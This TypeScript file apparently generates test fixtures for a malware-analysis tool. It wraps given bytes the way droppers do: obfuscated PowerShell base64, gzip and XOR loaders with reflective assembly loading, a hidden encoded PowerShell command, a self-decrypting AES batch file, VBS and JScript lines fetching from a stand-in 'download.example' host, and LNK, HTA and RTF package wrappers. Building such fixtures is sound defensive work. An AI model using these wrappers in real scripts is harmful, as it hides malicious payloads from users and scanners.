/**
 * Scripts and documents that carry given bytes in the ways that droppers do, for tests of the layers. Deterministic, and
 * harmless beyond what they carry: no line of them starts it.
 */
import { createCipheriv } from "node:crypto";
import { gzipSync } from "node:zlib";
import { concatBytes, hex, latin1Bytes, utf8Bytes, utf16leBytes } from "@assay/core/bytes/index";
import { plainOf } from "@assay/core/layers/scripts/vbe";

const KEY = Uint8Array.from({ length: 32 }, (_, i) => (i * 37 + 11) & 0xff);
const IV = Uint8Array.from({ length: 16 }, (_, i) => (i * 91 + 5) & 0xff);

function base64(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString("base64");
}

/** Pieces of `size` characters. */
function pieces(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
    text.slice(i * size, (i + 1) * size),
  );
}

/** `[Convert]::FromBase64String('…')`, the name of the method broken by backticks and joins. */
export function wrapPs1Base64(bytes: Uint8Array): Uint8Array {
  return latin1Bytes(
    `$d = [System.Convert]::("Fr"+"omBase"+'64String').Invoke('${base64(bytes)}')\r\n$a = [Reflection.Assembly]::L\`oad($d)\r\n`,
  );
}

/** Base64 in pieces that a format operator puts in order, joined to one variable. */
export function wrapPs1Pieces(bytes: Uint8Array): Uint8Array {
  const parts = pieces(base64(bytes), 4000);
  const lines = parts.map((part, i) =>
    i === 0 ? `$v = '${part}'` : `$v += ("{1}{0}" -f '${part.slice(9)}','${part.slice(0, 9)}')`,
  );
  return latin1Bytes(`${lines.join("\r\n")}\r\n$d = [Convert]::FromBase64String($v)\r\n`);
}

export function wrapPs1Gzip(bytes: Uint8Array): Uint8Array {
  return latin1Bytes(
    `$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String("${base64(gzipSync(bytes))}"))\r\n` +
      "$g = New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress)\r\n",
  );
}

/** A byte array, each byte turned by one key in a loop. */
export function wrapPs1Xor(bytes: Uint8Array, key = 0x5b): Uint8Array {
  const list = Array.from(bytes, (byte) => `0x${(byte ^ key).toString(16).padStart(2, "0")}`).join(",");
  return latin1Bytes(
    `[Byte[]] $b = ${list}\r\nfor ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor ${key} }\r\n[System.Reflection.Assembly]::Load($b)\r\n`,
  );
}

/** `powershell -EncodedCommand` around a script. */
export function wrapEncodedCommand(script: string): Uint8Array {
  return latin1Bytes(`powershell.exe -nop -w hidden -eNco ${base64(utf16leBytes(script))}\r\n`);
}

function aesGzip(bytes: Uint8Array): string {
  const cipher = createCipheriv("aes-256-cbc", KEY, IV);
  return base64(concatBytes(cipher.update(gzipSync(bytes)), cipher.final()));
}

/**
 * A batch file whose variables spell a PowerShell command that reads the file's own `:: ` line: two gzip streams under
 * AES-CBC in base64, parted by a backslash.
 */
export function wrapBatPs1GzipAes(assembly: Uint8Array, second: Uint8Array = utf8Bytes("")): Uint8Array {
  const command =
    "powershell.exe -noprofile -windowstyle hidden -command $l=[System.IO.File]::('txeTllAdaeR'[-1..-11] -join '')('%~f0').Split([Environment]::NewLine);" +
    "$a=[System.Security.Cryptography.Aes]::Create();$a.Mode=[System.Security.Cryptography.CipherMode]::CBC;" +
    `$a.Key=[System.Convert]::('gnirtS46esaBmorF'[-1..-16] -join '')('${base64(KEY)}');` +
    `$a.IV=[System.Convert]::('gnirtS46esaBmorF'[-1..-16] -join '')('${base64(IV)}');`;
  const parts = pieces(command, 7);
  const names = parts.map((_, i) => `v${(i * 7919) % 9973}`);
  const sets = parts.map((part, i) => `set "${names[i]}=${part.replaceAll("%~f0", "%%~f0")}"`);
  const data = [aesGzip(assembly), ...(second.length > 0 ? [aesGzip(second)] : [])].join("\\");
  return latin1Bytes(
    ["@echo off", ...sets, names.map((name) => `%${name}%`).join(""), `:: ${data}`, "exit /b", ""].join(
      "\r\n",
    ),
  );
}

/** Hex in a VBScript, put together over many lines. */
export function wrapVbs(bytes: Uint8Array): Uint8Array {
  const lines = pieces(hex(bytes), 900).map((part, i) => (i === 0 ? `h = "${part}"` : `h = h & "${part}"`));
  return latin1Bytes(
    [
      "On Error Resume Next",
      "Dim h, s",
      ...lines,
      `Set s = CreateObject(StrReverse("maertS.BDODA"))`,
      `u = Chr(104) & Chr(&H74) & "tp" & "://" & Replace("downloadXexample", "X", ".") & "/a.bin"`,
      "",
    ].join("\r\n"),
  );
}

/** Base64 turned round and an array of character codes in JScript. */
export function wrapJs(bytes: Uint8Array): Uint8Array {
  const turned = [...base64(bytes)].reverse().join("");
  return latin1Bytes(
    `var p = "${turned}".split("").reverse().join("");\r\nvar o = new ActiveXObject(String.fromCharCode(77,83,88,77,76,50) + "\\x2eXMLHTTP");\r\n` +
      `eval("var u = 'http:" + "//download" + ".example/b.bin';");\r\n`,
  );
}

export function wrapHta(script: string, language = "VBScript"): Uint8Array {
  return latin1Bytes(
    `<html><head><HTA:APPLICATION ID="a" WINDOWSTATE="minimize"></head>\r\n<script language="${language}">\r\n${script}\r\n</script></html>\r\n`,
  );
}

/** A shell link that runs `powershell` with `args`, with `overlay` behind it. */
export function wrapLnk(args: string, overlay: Uint8Array = new Uint8Array(0)): Uint8Array {
  const header = new Uint8Array(0x4c);
  const view = new DataView(header.buffer);
  view.setUint32(0, 0x4c, true);
  header.set([0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], 4);
  // HasRelativePath, HasArguments, IsUnicode.
  view.setUint32(20, 0x08 | 0x20 | 0x80, true);
  const text = (value: string): Uint8Array => {
    const size = new Uint8Array(2);
    new DataView(size.buffer).setUint16(0, value.length, true);
    return concatBytes(size, utf16leBytes(value));
  };
  const program = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  return concatBytes(header, text(program), text(args), new Uint8Array(4), overlay);
}

function u32(value: number): Uint8Array {
  const out = new Uint8Array(4);
  new DataView(out.buffer).setUint32(0, value, true);
  return out;
}

/** A packaged file in an RTF object, its hex broken up by control words, groups and white space. */
export function wrapRtf(bytes: Uint8Array, name = "invoice.exe"): Uint8Array {
  const z = (text: string): Uint8Array => latin1Bytes(`${text}\0`);
  const temporary = z(`C:\\Temp\\${name}`);
  const native = concatBytes(
    Uint8Array.of(2, 0),
    z(name),
    z(`C:\\${name}`),
    Uint8Array.of(0, 0, 3, 0),
    u32(temporary.length),
    temporary,
    u32(bytes.length),
    bytes,
  );
  const className = z("Package");
  const object = concatBytes(
    u32(0x501),
    u32(2),
    u32(className.length),
    className,
    u32(0),
    u32(0),
    u32(native.length),
    native,
  );
  const digits = pieces(hex(object), 61).map((part, i) =>
    i % 7 === 3 ? `${part}{\\*\\junk${i} x}` : i % 5 === 2 ? `${part}\\par ` : part,
  );
  return latin1Bytes(
    `{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata ${digits.join("\r\n")}}}}`,
  );
}

const ESCAPED: Readonly<Record<string, string>> = { "\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$" };

/** Script Encoder's form of an ASCII script. */
export function vbe(script: string): Uint8Array {
  const inverse = [0, 1, 2].map(() => new Map<number, number>());
  // Three turns in which the order runs through the alphabets 0, 1, 2.
  for (let turn = 0; turn < 3; turn++)
    for (let code = 9; code < 128; code++) {
      if (code === 60 || code === 62 || code === 64) continue;
      if (code === 9 || code >= 32) inverse[turn]?.set(plainOf(code, turn), code);
    }
  let out = "";
  let sum = 0;
  for (let i = 0; i < script.length; i++) {
    const char = script.charAt(i);
    sum += char.charCodeAt(0);
    // An encoded space stands at a turn's place: the alphabet in turn is found by trying.
    const code = [0, 1, 2]
      .map((a) => inverse[a]?.get(char.charCodeAt(0)))
      .find((c) => c !== undefined && plainOf(c, i) === char.charCodeAt(0));
    out += ESCAPED[char] ?? (code === undefined ? char : String.fromCharCode(code));
  }
  return latin1Bytes(`#@~^${base64(u32(out.length))}${out}${base64(u32(sum))}^#~@`);
}
